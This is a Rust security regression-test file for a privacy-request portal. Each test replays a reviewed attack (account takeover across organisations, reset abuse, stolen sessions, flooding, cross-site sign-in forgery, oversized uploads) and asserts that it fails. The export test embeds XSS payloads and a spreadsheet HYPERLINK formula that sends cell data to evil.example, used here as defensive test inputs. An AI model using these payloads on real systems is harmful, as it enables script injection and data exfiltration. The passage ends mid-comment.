//! Attacks, each performed against the running portal, that must fail:
//! the holes a review found (issue 13) and their cousins. A change that
//! reopens one fails here. Every test says what the attacker does and what
//! stops them.

use crate::harness::{
    client, location, set_cookie, spawn_app, spawn_app_configured, spawn_app_with_org, totp_code,
    Staff, TestApp, STAFF_PASSWORD,
};
use domain::Role;

const EVIL: &str =
    "name = \"Evil AS\"\ncontact_email = \"privacy@evil.example\"\nrequire_two_factor = false\n";

/// The link of the newest mail to `to` that contains `needle`, as a path.
async fn mailed_path(app: &TestApp, to: &str, needle: &str) -> String {
    for _ in 0..200 {
        let found = app
            .mails()
            .await
            .into_iter()
            .rev()
            .find(|mail| mail.to == to && mail.body.contains(needle))
            .map(|mail| mail.link_containing(needle));
        if let Some(link) = found {
            let path = link
                .split_once("://")
                .map(|(_, rest)| rest)
                .unwrap_or(&link);
            return path[path.find('/').unwrap()..].to_owned();
        }
        tokio::time::sleep(std::time::Duration::from_millis(25)).await;
    }
    panic!("no mail to {to} with {needle}");
}

async fn roles_of(app: &TestApp, email: &str) -> Vec<String> {
    sqlx::query_scalar(
        "SELECT r.org FROM staff_roles r JOIN staff s ON s.id = r.staff_id WHERE s.email = $1 ORDER BY r.org",
    )
    .bind(email)
    .fetch_all(&app.db)
    .await
    .unwrap()
}

async fn post(app: &TestApp, path: &str, form: &[(&str, &str)]) -> reqwest::Response {
    app.client
        .post(app.url(path))
        .header("accept", "text/html")
        .form(form)
        .send()
        .await
        .unwrap()
}

/// Someone holding an invitation link chooses their password and enrols an
/// authenticator, as the pages walk them through; returns their account.
async fn join_by_link(app: &TestApp, path: &str, email: &str, password: &str) -> (Staff, String) {
    let token = path.rsplit('/').next().unwrap();
    let joined = post(
        app,
        "/_sfn/console/join",
        &[
            ("token", token),
            ("new_password", password),
            ("repeat", password),
        ],
    )
    .await;
    assert_eq!(location(&joined), "/console/enrol", "{email} joins");
    let cookie = set_cookie(&joined, "portal_staff").unwrap();
    let (_, enrol) = app.page("/console/enrol", Some(&cookie)).await;
    let secret = enrol
        .split("data-secret=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_owned();
    let confirmed = app
        .post_form(
            "/_sfn/console/confirm_enrolment",
            &cookie,
            &[
                ("code", &totp_code(&secret, email, 0)),
                ("password", password),
            ],
        )
        .await;
    assert_eq!(location(&confirmed), "/console/recovery-codes");
    let (_, page) = app.page("/console/recovery-codes", Some(&cookie)).await;
    let recovery: Vec<String> = page
        .split("<li><code>")
        .skip(1)
        .map(|rest| rest.split('<').next().unwrap().to_owned())
        .collect();
    let id = sqlx::query_scalar("SELECT id FROM staff WHERE email = $1")
        .bind(email)
        .fetch_one(&app.db)
        .await
        .unwrap();
    let staff = Staff {
        id,
        email: email.into(),
        password: password.into(),
        secret: Some(secret),
        recovery,
    };
    (staff, cookie)
}

/// Hole 1: an admin of organisation *evil* used to create `dpo@fjordlys`
/// with a password she chose, and hold it once Fjordlys trusted the address.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_admin_of_one_organisation_cannot_make_or_take_an_account_another_trusts() {
    let app = spawn_app_with_org("evil", EVIL).await;
    let mut mallory = app
        .staff("mallory@evil.example", "evil", Role::Admin, false)
        .await;
    let mallory_cookie = app.staff_cookie(&mut mallory).await;
    let mallorys_password = "mallory knows this one";
    let staff_with = |email: &'static str| {
        let db = app.db.clone();
        async move {
            sqlx::query_scalar::<_, i64>("SELECT COUNT(*) FROM staff WHERE email = $1")
                .bind(email)
                .fetch_one(&db)
                .await
                .unwrap()
        }
    };

    // She "adds" the DPO's address with a password of her choosing: the old
    // door is gone, the new one sends an invitation to the address and
    // takes no password.
    let old_door = app
        .post_form(
            "/_sfn/console/add_member",
            &mallory_cookie,
            &[
                ("org", "evil"),
                ("email", "dpo@fjordlys.example"),
                ("role", "admin"),
                ("password", mallorys_password),
            ],
        )
        .await;
    assert!(
        !location(&old_door).contains("done="),
        "{}",
        location(&old_door)
    );
    assert_eq!(staff_with("dpo@fjordlys.example").await, 0);
    let invited = app
        .post_form(
            "/_sfn/console/invite",
            &mallory_cookie,
            &[
                ("org", "evil"),
                ("email", "dpo@fjordlys.example"),
                ("role", "admin"),
                ("password", mallorys_password),
            ],
        )
        .await;
    assert_eq!(location(&invited), "/console/team?done=invited");
    assert_eq!(
        staff_with("dpo@fjordlys.example").await,
        0,
        "an invitation makes no account"
    );
    let evil_link = mailed_path(&app, "dpo@fjordlys.example", "/console/invitation/").await;
    let sign_in = |password: &'static str| {
        let app = &app;
        async move {
            app.call(
                "/_sfn/console/login",
                None,
                &[("email", "dpo@fjordlys.example"), ("password", password)],
            )
            .await
        }
    };
    assert_eq!(
        sign_in(mallorys_password).await,
        401,
        "no account with her password"
    );

    // She guesses at invitation links: nothing opens.
    for guess in ["forged", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"] {
        let joined = app
            .call(
                "/_sfn/console/join",
                None,
                &[
                    ("token", guess),
                    ("new_password", mallorys_password),
                    ("repeat", mallorys_password),
                ],
            )
            .await;
        assert_eq!(joined, 422);
    }
    assert_eq!(staff_with("dpo@fjordlys.example").await, 0);

    // Fjordlys invites its DPO; the DPO, who holds the mailbox, chooses a
    // password of their own. Mallory's does not open the account.
    let mut fjordlys_admin = app
        .staff("admin@fjordlys.example", "demo", Role::Admin, true)
        .await;
    let fjordlys_cookie = app.staff_cookie(&mut fjordlys_admin).await;
    let invited = app
        .post_form(
            "/_sfn/console/invite",
            &fjordlys_cookie,
            &[
                ("org", "demo"),
                ("email", "dpo@fjordlys.example"),
                ("role", "admin"),
            ],
        )
        .await;
    assert_eq!(location(&invited), "/console/team?done=invited");
    let demo_link = mailed_path(&app, "dpo@fjordlys.example", "/console/invitation/").await;
    assert_ne!(demo_link, evil_link);
    let (dpo, dpo_cookie) = join_by_link(
        &app,
        &demo_link,
        "dpo@fjordlys.example",
        "the dpo's own passphrase",
    )
    .await;
    assert_eq!(sign_in(mallorys_password).await, 401);
    assert_eq!(
        roles_of(&app, "dpo@fjordlys.example").await,
        vec!["demo".to_owned()]
    );

    // Evil's invitation is still open, and grants nothing until the DPO
    // accepts it. Say they do (they were fooled into it).
    let (_, console) = app.page("/console", Some(&dpo_cookie)).await;
    assert!(console.contains("You are invited to the privacy team of Evil AS"));
    let accepted = app
        .post_form(
            "/_sfn/console/accept_invitation",
            &dpo_cookie,
            &[("token", evil_link.rsplit('/').next().unwrap())],
        )
        .await;
    assert_eq!(location(&accepted), "/console?done=joined");
    assert_eq!(
        roles_of(&app, "dpo@fjordlys.example").await,
        vec!["demo".to_owned(), "evil".to_owned()]
    );

    // Mallory now administers one of the DPO's organisations, not all: she
    // may not take their second factor away, and is not offered to.
    let (_, team) = app.page("/console/team", Some(&mallory_cookie)).await;
    assert!(
        team.contains("dpo@fjordlys.example")
            && !team.contains("Reset two-factor of dpo@fjordlys.example")
    );
    let dpo_id = dpo.id.to_string();
    let reset = app
        .call(
            "/_sfn/console/reset_two_factor",
            Some(&mallory_cookie),
            &[("org", "evil"), ("staff_id", &dpo_id)],
        )
        .await;
    assert_eq!(reset, 403);
    // Nor may Fjordlys' admin, who does not administer evil.
    let reset = app
        .call(
            "/_sfn/console/reset_two_factor",
            Some(&fjordlys_cookie),
            &[("org", "demo"), ("staff_id", &dpo_id)],
        )
        .await;
    assert_eq!(reset, 403);
    let confirmed: i64 = sqlx::query_scalar("SELECT totp_confirmed FROM staff WHERE id = $1")
        .bind(dpo.id)
        .fetch_one(&app.db)
        .await
        .unwrap();
    assert_eq!(confirmed, 1, "the DPO's authenticator is untouched");

    // Removing the DPO from evil takes evil's role away and nothing else.
    let removed = app
        .post_form(
            "/_sfn/console/remove_member",
            &mallory_cookie,
            &[("org", "evil"), ("staff_id", &dpo.id.to_string())],
        )
        .await;
    assert_eq!(location(&removed), "/console/team?done=removed");
    assert_eq!(
        roles_of(&app, "dpo@fjordlys.example").await,
        vec!["demo".to_owned()]
    );
    let (status, _) = app.page("/console", Some(&dpo_cookie)).await;
    assert_eq!(status, 200, "the DPO is still signed in");

    // Now Fjordlys' admin administers every organisation of the DPO, and may
    // reset a lost authenticator: the DPO's sessions end, and they enrol again.
    let reset = app
        .post_form(
            "/_sfn/console/reset_two_factor",
            &fjordlys_cookie,
            &[("org", "demo"), ("staff_id", &dpo.id.to_string())],
        )
        .await;
    assert_eq!(location(&reset), "/console/team?done=reset");
    let (status, _) = app.page("/console", Some(&dpo_cookie)).await;
    assert!(
        (300..400).contains(&status),
        "the DPO's session ended: {status}"
    );
    let mut dpo = dpo;
    dpo.secret = None;
    dpo.recovery.clear();
    let cookie = app.staff_cookie(&mut dpo).await;
    let (_, console) = app.page("/console", Some(&cookie)).await;
    assert!(
        console.contains("needs two-factor sign-in"),
        "they enrol before they reach anything"
    );
    let notice = mailed_path(&app, "dpo@fjordlys.example", "/console/login").await;
    assert!(
        notice.starts_with("/console/login"),
        "the DPO is told of the reset"
    );
}

/// A reset link goes only to the mailbox; asking looks the same for every
/// address; the link works once and ends every session; a second factor is
/// still asked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_password_reset_goes_only_to_the_mailbox_and_ends_every_session() {
    let app = spawn_app().await;
    let mut agent = app
        .staff("agent@fjordlys.example", "demo", Role::Agent, true)
        .await;
    let stolen = app.staff_cookie(&mut agent).await;
    let forgot = |email: &'static str| {
        let app = &app;
        async move { post(app, "/_sfn/console/forgot_password", &[("email", email)]).await }
    };
    let before = app.mail_count().await;
    let known = forgot("agent@fjordlys.example").await;
    let unknown = forgot("nobody@fjordlys.example").await;
    assert_eq!(known.status(), unknown.status());
    assert_eq!(
        location(&known),
        location(&unknown),
        "the same answer either way"
    );
    let path = mailed_path(&app, "agent@fjordlys.example", "/console/reset/").await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert_eq!(
        app.mail_count().await,
        before + 1,
        "only the account's own address gets mail"
    );

    // Three an hour per address, whether or not it has an account.
    for _ in 0..2 {
        forgot("nobody@fjordlys.example").await;
        forgot("agent@fjordlys.example").await;
    }
    for email in ["nobody@fjordlys.example", "agent@fjordlys.example"] {
        assert_eq!(
            app.call("/_sfn/console/forgot_password", None, &[("email", email)])
                .await,
            429
        );
    }
    // Each new link voids the one before: the newest of the three works.
    let _ = app.mail.wait_for(before + 3).await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert_eq!(
        app.mail_count().await,
        before + 3,
        "none for the address without an account"
    );
    let _ = path;
    let mut valid = Vec::new();
    for mail in app
        .mails()
        .await
        .iter()
        .filter(|m| m.to == "agent@fjordlys.example")
    {
        let link = mail.link_containing("/console/reset/");
        let path = link.trim_start_matches(&app.address).to_owned();
        let (status, page) = app.page(&path, None).await;
        assert_eq!(status, 200);
        if page.contains("Set the new password") {
            valid.push(path);
        } else {
            assert!(page.contains("This link is not valid"), "{page}");
        }
    }
    assert_eq!(valid.len(), 1, "each new link voids the ones before");
    let path = valid.remove(0);
    let token = path.rsplit('/').next().unwrap().to_owned();
    let reset = |new: &'static str, repeat: &'static str| {
        let (app, token) = (&app, token.clone());
        async move {
            post(
                app,
                "/_sfn/console/reset_password",
                &[("token", &token), ("new_password", new), ("repeat", repeat)],
            )
            .await
        }
    };
    assert_ne!(
        location(&reset("a brand new passphrase", "another passphrase").await),
        "/console/login?done=reset"
    );
    assert_eq!(
        location(&reset("a brand new passphrase", "a brand new passphrase").await),
        "/console/login?done=reset"
    );
    let again = app
        .call(
            "/_sfn/console/reset_password",
            None,
            &[
                ("token", &token),
                ("new_password", "yet another passphrase"),
                ("repeat", "yet another passphrase"),
            ],
        )
        .await;
    assert_eq!(again, 422, "the link works once");
    let (status, _) = app.page("/console", Some(&stolen)).await;
    assert!(
        (300..400).contains(&status),
        "the session someone else held ended"
    );
    let old = app
        .call(
            "/_sfn/console/login",
            None,
            &[
                ("email", "agent@fjordlys.example"),
                ("password", STAFF_PASSWORD),
            ],
        )
        .await;
    assert_eq!(old, 401);
    let new = post(
        &app,
        "/_sfn/console/login",
        &[
            ("email", "agent@fjordlys.example"),
            ("password", "a brand new passphrase"),
        ],
    )
    .await;
    assert_eq!(
        location(&new),
        "/console/login/code",
        "the second factor is still asked"
    );
    assert!(set_cookie(&new, "portal_staff").is_none());
}

/// A member changes their password with the current one; other sessions end.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_password_change_needs_the_current_password_and_ends_other_sessions() {
    let app = spawn_app_with_org("evil", EVIL).await;
    let mut member = app
        .staff("member@evil.example", "evil", Role::Agent, false)
        .await;
    let mine = app.staff_cookie(&mut member).await;
    let elsewhere = app.staff_cookie(&mut member).await;
    let change = |current: &'static str| {
        let (app, mine) = (&app, mine.clone());
        async move {
            app.post_form(
                "/_sfn/console/change_password",
                &mine,
                &[
                    ("password", current),
                    ("new_password", "my new passphrase"),
                    ("repeat", "my new passphrase"),
                ],
            )
            .await
        }
    };
    assert_ne!(
        location(&change("a guess at the password").await),
        "/console/account?done=password"
    );
    assert_eq!(
        location(&change(STAFF_PASSWORD).await),
        "/console/account?done=password"
    );
    assert_eq!(
        app.page("/console", Some(&mine)).await.0,
        200,
        "this session stays"
    );
    assert!(
        (300..400).contains(&app.page("/console", Some(&elsewhere)).await.0),
        "the other one ended"
    );
    member.password = "my new passphrase".into();
    app.staff_cookie(&mut member).await;
}

/// With a stolen session alone, nobody mints recovery codes or swaps the
/// authenticator: both ask for the password again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stolen_session_cannot_mint_recovery_codes_or_change_the_second_factor() {
    let app = spawn_app().await;
    let mut agent = app
        .staff("agent@fjordlys.example", "demo", Role::Agent, true)
        .await;
    let stolen = app.staff_cookie(&mut agent).await;
    let hashes = || {
        let db = app.db.clone();
        async move {
            sqlx::query_scalar::<_, String>(
                "SELECT code_hash FROM staff_recovery_codes ORDER BY id",
            )
            .fetch_all(&db)
            .await
            .unwrap()
        }
    };
    let before = hashes().await;
    for password in ["", "a guess at the password"] {
        let minted = app
            .post_form(
                "/_sfn/console/new_recovery_codes",
                &stolen,
                &[("password", password)],
            )
            .await;
        assert_ne!(location(&minted), "/console/recovery-codes");
    }
    assert_eq!(hashes().await, before, "the codes are as they were");

    // The thief sets up their own authenticator: it waits, and without the
    // password it never replaces the owner's.
    let (_, enrol) = app.page("/console/enrol", Some(&stolen)).await;
    let theirs = enrol
        .split("data-secret=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_owned();
    let swapped = app
        .post_form(
            "/_sfn/console/confirm_enrolment",
            &stolen,
            &[
                ("code", &totp_code(&theirs, &agent.email, 0)),
                ("password", "a guess at the password"),
            ],
        )
        .await;
    assert_ne!(location(&swapped), "/console/recovery-codes");
    let LoginStep::SecondFactor(pending) = app
        .service
        .accounts
        .staff_login(&agent.email, STAFF_PASSWORD, &client())
        .await
        .unwrap()
    else {
        panic!("the owner's factor is still asked")
    };
    let owners = agent.secret.clone().unwrap();
    assert!(
        app.service
            .accounts
            .staff_second_factor(&pending, &totp_code(&owners, &agent.email, 1), &client())
            .await
            .is_ok(),
        "the owner's authenticator still works"
    );
}

use portal::service::LoginStep;

/// Hole 7: a copy of the database gives neither second factors nor
/// recovery codes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_database_copy_holds_no_usable_second_factor() {
    let app = spawn_app().await;
    let agent = app
        .staff("agent@fjordlys.example", "demo", Role::Agent, true)
        .await;
    let (stored, hashes): (String, Vec<String>) = (
        sqlx::query_scalar("SELECT totp_secret FROM staff WHERE id = $1")
            .bind(agent.id)
            .fetch_one(&app.db)
            .await
            .unwrap(),
        sqlx::query_scalar("SELECT code_hash FROM staff_recovery_codes WHERE staff_id = $1")
            .bind(agent.id)
            .fetch_all(&app.db)
            .await
            .unwrap(),
    );
    let secret = agent.secret.clone().unwrap();
    assert!(
        stored.starts_with("sealed2:") && !stored.contains(&secret),
        "{stored}"
    );
    assert_eq!(hashes.len(), 10);
    for code in &agent.recovery {
        let plain = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(code.as_bytes()));
        assert!(
            !hashes.contains(&plain),
            "a recovery code's plain digest is stored"
        );
    }

    // A database written before: the secret in clear, the digests plain.
    // The next start seals and keys them, and sign-in goes on working.
    let code = agent.recovery[0].clone();
    let plain: Vec<String> = agent
        .recovery
        .iter()
        .map(|c| hex::encode(<sha2::Sha256 as sha2::Digest>::digest(c.as_bytes())))
        .collect();
    sqlx::query("UPDATE staff SET totp_secret = $1 WHERE id = $2")
        .bind(&secret)
        .bind(agent.id)
        .execute(&app.db)
        .await
        .unwrap();
    sqlx::query("DELETE FROM staff_recovery_codes")
        .execute(&app.db)
        .await
        .unwrap();
    for hash in &plain {
        sqlx::query(
            "INSERT INTO staff_recovery_codes (staff_id, code_hash, keyed) VALUES ($1, $2, 0)",
        )
        .bind(agent.id)
        .bind(hash)
        .execute(&app.db)
        .await
        .unwrap();
    }
    let app = app.crash_and_restart().await;
    let resealed: String = sqlx::query_scalar("SELECT totp_secret FROM staff WHERE id = $1")
        .bind(agent.id)
        .fetch_one(&app.db)
        .await
        .unwrap();
    assert!(resealed.starts_with("sealed2:"));
    let keyed: Vec<String> =
        sqlx::query_scalar("SELECT code_hash FROM staff_recovery_codes WHERE keyed = 1")
            .fetch_all(&app.db)
            .await
            .unwrap();
    assert_eq!(keyed.len(), 10);
    assert!(keyed.iter().all(|h| !plain.contains(h)));
    let LoginStep::SecondFactor(pending) = app
        .service
        .accounts
        .staff_login(&agent.email, STAFF_PASSWORD, &client())
        .await
        .unwrap()
    else {
        panic!()
    };
    assert!(app
        .service
        .accounts
        .staff_second_factor(&pending, &code, &client())
        .await
        .is_ok());
    let LoginStep::SecondFactor(pending) = app
        .service
        .accounts
        .staff_login(&agent.email, STAFF_PASSWORD, &client())
        .await
        .unwrap()
    else {
        panic!()
    };
    assert!(app
        .service
        .accounts
        .staff_second_factor(&pending, &totp_code(&secret, &agent.email, 1), &client())
        .await
        .is_ok());
}

/// An app that believes `X-Forwarded-For`, so that a test can be several
/// clients (as a load balancer would tell them apart).
async fn behind_a_proxy() -> TestApp {
    spawn_app_configured(|settings| {
        settings.client_ip_header = Some(axum::http::HeaderName::from_static("x-forwarded-for"));
    })
    .await
}

async fn submit_from(app: &TestApp, client: &str, body: serde_json::Value) -> reqwest::Response {
    app.client
        .post(app.url("/api/v1/requests"))
        .header("x-forwarded-for", client)
        .json(&body)
        .send()
        .await
        .unwrap()
}

/// Hole 3: anyone who knew the address could use up its ten codes a day,
/// and anyone who knew a reference could resend, which sent the subject's
/// tracking link back to a sign-in form.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stranger_cannot_flood_a_subject_nor_lock_them_out() {
    let app = behind_a_proxy().await;
    let (victim, attacker) = ("198.51.100.7", "203.0.113.66");
    let email = "kari@example.no";

    // Kari's own request, made earlier, with its tracking link.
    let earlier = submit_from(
        &app,
        victim,
        serde_json::json!({"org": "demo", "kind": "access", "email": email}),
    )
    .await;
    let earlier = earlier.json::<serde_json::Value>().await.unwrap()["reference"]
        .as_str()
        .unwrap()
        .to_owned();
    let tracking = app.mail.wait_for(1).await.link_containing("?key=");
    let tracking = tracking.trim_start_matches(&app.address).to_owned();

    // Fifty submissions with her address from the attacker's network, and a
    // resend of every request the attacker knows, hers included.
    let mut theirs = Vec::new();
    for n in 0..50 {
        let kind = ["access", "erasure", "objection"][n % 3];
        let details = match kind {
            "erasure" => serde_json::json!({"erasure_scope": "all"}),
            "objection" => serde_json::json!({"grounds": "x"}),
            _ => serde_json::json!({}),
        };
        let response = submit_from(
            &app,
            attacker,
            serde_json::json!({"org": "demo", "kind": kind, "email": email, "details": details}),
        )
        .await;
        assert_eq!(response.status(), 201, "taken, and answered as always");
        theirs.push(
            response.json::<serde_json::Value>().await.unwrap()["reference"]
                .as_str()
                .unwrap()
                .to_owned(),
        );
    }
    sqlx::query("UPDATE verification_codes SET created_at = created_at - 61")
        .execute(&app.db)
        .await
        .unwrap();
    for reference in theirs.iter().chain([&earlier]) {
        let resent = app
            .client
            .post(app.url(&format!("/api/v1/requests/{reference}/resend")))
            .header("x-forwarded-for", attacker)
            .send()
            .await
            .unwrap();
        assert!([202, 429].contains(&resent.status().as_u16()));
    }
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    let to_kari = app.mails().await.iter().filter(|m| m.to == email).count();
    assert!(
        to_kari <= 1 + portal::service::CODES_PER_CLIENT as usize,
        "{to_kari} mails: the attacker's network sends at most {} a day",
        portal::service::CODES_PER_CLIENT
    );

    // Her tracking link still shows her request: nothing was rotated.
    let (status, page) = app.page(&tracking, None).await;
    assert_eq!(status, 200);
    assert!(
        page.contains("class=\"facts\""),
        "the summary, not a bare sign-in form: {page}"
    );

    // She makes a new request from her own network, gets a code, verifies.
    let before = app.mail_count().await;
    let mine = submit_from(
        &app,
        victim,
        serde_json::json!({"org": "demo", "kind": "access", "email": email}),
    )
    .await;
    assert_eq!(mine.status(), 201);
    let mine = mine.json::<serde_json::Value>().await.unwrap()["reference"]
        .as_str()
        .unwrap()
        .to_owned();
    let code = app.mail.wait_for(before + 1).await;
    assert!(code.subject.contains(&mine));
    let verified = app
        .client
        .post(app.url(&format!("/api/v1/requests/{mine}/verify")))
        .header("x-forwarded-for", victim)
        .json(&serde_json::json!({ "code": code.code() }))
        .send()
        .await
        .unwrap();
    assert_eq!(verified.status(), 200);

    // And with her tracking link she gets a code for the earlier request,
    // from any network, whatever strangers used up.
    let key = tracking.rsplit("key=").next().unwrap();
    let resent = app
        .client
        .post(app.url(&format!("/api/v1/requests/{earlier}/resend")))
        .header("x-forwarded-for", "192.0.2.1")
        .json(&serde_json::json!({ "key": key }))
        .send()
        .await
        .unwrap();
    assert_eq!(resent.status(), 202);
    let _ = app.mail.wait_for(before + 2).await;
}

/// Hole 3, staff side: five failures used to lock any account whose address
/// was known, for everyone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stranger_cannot_lock_a_staff_member_out() {
    let app = behind_a_proxy().await;
    let mut dpo = app
        .staff("dpo@fjordlys.example", "demo", Role::Admin, true)
        .await;
    let login = |client: &'static str, password: &'static str| {
        let app = &app;
        async move {
            app.client
                .post(app.url("/_sfn/console/login"))
                .header("x-forwarded-for", client)
                .form(&[("email", "dpo@fjordlys.example"), ("password", password)])
                .send()
                .await
                .unwrap()
        }
    };
    for _ in 0..10 {
        let guess = login("203.0.113.66", "a guess at the password").await;
        assert!([401, 429].contains(&guess.status().as_u16()));
    }
    assert_eq!(
        login("203.0.113.66", STAFF_PASSWORD).await.status(),
        429,
        "the guessing network is locked out, even with the right password"
    );
    let owner = login("198.51.100.7", STAFF_PASSWORD).await;
    assert!(
        owner.status().is_success() || owner.status().is_redirection(),
        "{}",
        owner.status()
    );
    assert!(
        set_cookie(&owner, "portal_staff_pending").is_some(),
        "on to the second factor"
    );
    let _ = &mut dpo;
}

/// Hole 4: a foreign page used to be able to sign a victim into the
/// attacker's account (a magic link, staff credentials), since only
/// requests that carried a session cookie were checked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_foreign_page_cannot_sign_a_browser_in() {
    let app = spawn_app().await;
    let _mallory = app
        .staff("mallory@fjordlys.example", "demo", Role::Agent, false)
        .await;
    let forged = app
        .client
        .post(app.url("/_sfn/console/login"))
        .header("origin", "https://evil.example")
        .form(&[
            ("email", "mallory@fjordlys.example"),
            ("password", STAFF_PASSWORD),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(forged.status(), 403);
    assert!(set_cookie(&forged, "portal_staff").is_none());

    // The attacker's own request and magic link, posted from their page.
    let reference = app.submit_access("mallory@example.no").await;
    let mail = app.mail.wait_for(1).await;
    let token = mail
        .link_containing("/confirm/")
        .rsplit('/')
        .next()
        .unwrap()
        .to_owned();
    let forged = app
        .client
        .post(app.url("/_sfn/confirm_link"))
        .header("sec-fetch-site", "cross-site")
        .form(&[("org", "demo"), ("token", token.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(forged.status(), 403);
    assert!(set_cookie(&forged, "portal_session").is_none());
    let forged = app
        .client
        .post(app.url(&format!("/api/v1/requests/{reference}/verify")))
        .header("origin", "null")
        .json(&serde_json::json!({ "code": mail.code() }))
        .send()
        .await
        .unwrap();
    assert_eq!(forged.status(), 403);
    let status: String = sqlx::query_scalar("SELECT status FROM requests WHERE reference = $1")
        .bind(&reference)
        .fetch_one(&app.db)
        .await
        .unwrap();
    assert_eq!(
        status, "pending_verification",
        "nothing of the forgeries was done"
    );

    // Its own pages, and API clients, are not affected.
    let own = app
        .client
        .post(app.url("/_sfn/confirm_link"))
        .header("origin", &app.address)
        .header("sec-fetch-site", "same-origin")
        .header("accept", "text/html")
        .form(&[("org", "demo"), ("token", token.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(own.status(), 303);
    let api = app
        .client
        .get(app.url("/api/v1/requests"))
        .bearer_auth("not a token")
        .header("origin", "https://crm.example")
        .send()
        .await
        .unwrap();
    assert_eq!(
        api.status(),
        401,
        "past the forgery guard, refused by the door"
    );
}

/// Hole 8: a stranger's upload used to be read (50 MB buffered, 20 MB
/// parsed) before anyone asked whether they could act on the request. Here
/// the body never ends: only a refusal that does not wait for it answers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_strangers_upload_is_refused_before_its_body_is_read() {
    let app = spawn_app().await;
    let (reference, _) = app.verified_subject("kari@example.no").await;
    let mut outsider = app
        .staff("agent@other.example", "other", Role::Agent, false)
        .await;
    let cookie = app.staff_cookie(&mut outsider).await;
    for route in ["complete", "export-data"] {
        for cookie in [Some(cookie.as_str()), None] {
            let endless = futures_util::stream::once(async {
                Ok::<_, std::io::Error>(
                    b"--x\r\nContent-Disposition: form-data; name=\"attachments\"; filename=\"a.bin\"\r\n\r\n"
                        .to_vec(),
                )
            })
            .chain(futures_util::stream::pending());
            let mut request = app
                .client
                .post(app.url(&format!("/console/o/demo/requests/{reference}/{route}")))
                .header("content-type", "multipart/form-data; boundary=x")
                .timeout(std::time::Duration::from_secs(20))
                .body(reqwest::Body::wrap_stream(endless));
            if let Some(cookie) = cookie {
                request = request.header("cookie", cookie);
            }
            let status = request
                .send()
                .await
                .expect("answered without the body")
                .status();
            assert_eq!(status, if cookie.is_some() { 404 } else { 401 }, "{route}");
        }
    }
}

use futures_util::StreamExt;

/// Headless Chromium (Debian's, as the browser tests use) prints a page's
/// DOM after its scripts would have run.
fn dom_after_scripts(file: &std::path::Path) -> String {
    let profile = tempfile::tempdir().unwrap();
    let output = std::process::Command::new("/usr/bin/chromium")
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--virtual-time-budget=2000",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg("--dump-dom")
        .arg(format!("file://{}", file.display()))
        .output()
        .expect("Chromium at /usr/bin/chromium (make test installs it)");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

/// Hole 2: the package's `index.html` was rendered without escaping, so a
/// source record or a file name could carry a script to the subject's
/// browser; CSV cells could carry spreadsheet formulas.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_records_and_file_names_run_nothing_in_the_package() {
    use crate::exports::{build, unzip, upload};
    let app = spawn_app().await;
    let mut agent = app
        .staff("agent@fjordlys.example", "demo", Role::Agent, true)
        .await;
    let cookie = app.staff_cookie(&mut agent).await;
    let (reference, token) = app.verified_subject("kari@example.no").await;
    let script = "<img src=x onerror=\"document.title='ran-'+'script'\">";
    let record = serde_json::json!([{
        "name": script,
        "<script>document.title='ran-'+'key'</script>": "x",
        "link": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    }]);
    let name = "<img src=x onerror=\"document.title='ran-'+'name'\">.json";
    assert!(upload(
        &app,
        &cookie,
        &reference,
        "identity",
        name,
        record.to_string().as_bytes()
    )
    .await
    .ends_with("done=data_added"));
    assert!(build(&app, &cookie, &reference)
        .await
        .ends_with("done=export_built"));
    let zip = app
        .client
        .get(app.url(&format!("/api/v1/requests/{reference}/export")))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    let files = unzip(&zip);
    let index = String::from_utf8(files["index.html"].clone()).unwrap();
    assert!(
        !index.contains("<img src=x") && !index.contains("<script>document"),
        "escaped"
    );
    assert!(index.contains("&lt;img src=x"), "shown as text");
    assert!(index.contains("Content-Security-Policy") && index.contains("default-src 'none'"));

    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("index.html");
    std::fs::write(&file, &index).unwrap();
    let dom = dom_after_scripts(&file);
    assert!(
        dom.contains("Your data held by"),
        "Chromium rendered the page: {dom}"
    );
    for ran in ["ran-script", "ran-key", "ran-name"] {
        assert!(!dom.contains(ran), "a script ran: {ran}");
    }

    let csv = String::from_utf8(files["csv/identity.csv"].clone()).unwrap();
    let mut cells = csv::Reader::from_reader(csv.as_bytes());
    let header: Vec<String> = cells.headers().unwrap().iter().map(str::to_owned).collect();
    let rows: Vec<Vec<String>> = cells
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    for cell in header.iter().chain(rows.iter().flatten()) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} runs as a formula"
        );
    }
    assert!(rows.iter().flatten().any(|c| c.starts_with("'=HYPERLINK")));
}

/// Hole 9: the audit chain was plain SHA-256, so whoever could write to the
/// database could rewrite an entry and compute every later link again; and
